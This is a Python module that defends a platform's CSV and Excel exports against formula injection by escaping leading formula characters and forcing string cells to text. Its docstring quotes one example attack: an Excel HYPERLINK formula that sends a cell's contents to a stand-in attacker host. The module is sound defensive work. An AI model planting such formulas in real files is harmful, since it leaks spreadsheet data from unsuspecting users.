"""Cells of every spreadsheet and CSV file the platform writes, safe to open in Excel.

A title such as `=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")` must reach a clerk's Excel
as the text it is, not as a live formula (OWASP "CSV Injection"). Every CSV writer goes through
`writer()`/`dict_writer()`, which prefix a text starting with = + - @ tab or CR with an apostrophe;
every Excel writer marks text cells as text (`text()`, `append_text()` for openpyxl; `workbook()`
for the streamed ledgers in XlsxWriter), which Excel never evaluates, so the ledgers keep the
title exactly as written.
"""

import csv

import xlsxwriter

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value):
    """`value` as a CSV field Excel and LibreOffice read as text (numbers are left as they are)."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class _SafeWriter:
    def __init__(self, inner):
        self._inner = inner

    def writerow(self, row):
        return self._inner.writerow([csv_safe(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


class _SafeDictWriter:
    def __init__(self, inner: csv.DictWriter):
        self._inner = inner

    def writeheader(self):
        return self._inner.writerow({k: csv_safe(k) for k in self._inner.fieldnames})

    def writerow(self, row: dict):
        return self._inner.writerow({k: csv_safe(v) for k, v in row.items()})

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(f, **kwargs) -> _SafeWriter:
    """`csv.writer(f)` whose every field has passed `csv_safe`."""
    return _SafeWriter(csv.writer(f, **kwargs))


def dict_writer(f, fieldnames, **kwargs) -> _SafeDictWriter:
    """`csv.DictWriter(f, fieldnames)` whose every field (and heading) has passed `csv_safe`."""
    return _SafeDictWriter(csv.DictWriter(f, fieldnames=fieldnames, **kwargs))


def text(cell):
    """Mark an openpyxl cell (also a write-only cell) holding a string as text, never a formula."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell


def append_text(ws, values) -> None:
    """`ws.append(values)` on a normal (not write-only) worksheet, every string written as text."""
    ws.append(values)
    for cell in ws[ws.max_row]:
        text(cell)


def workbook(out) -> xlsxwriter.Workbook:
    """An XlsxWriter workbook streaming to `out` (a path or a binary file), one row in memory at a
    time, whose every string is written as text: never read as a formula, a link or a number."""
    options = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
    return xlsxwriter.Workbook(out, {"constant_memory": True, **options})
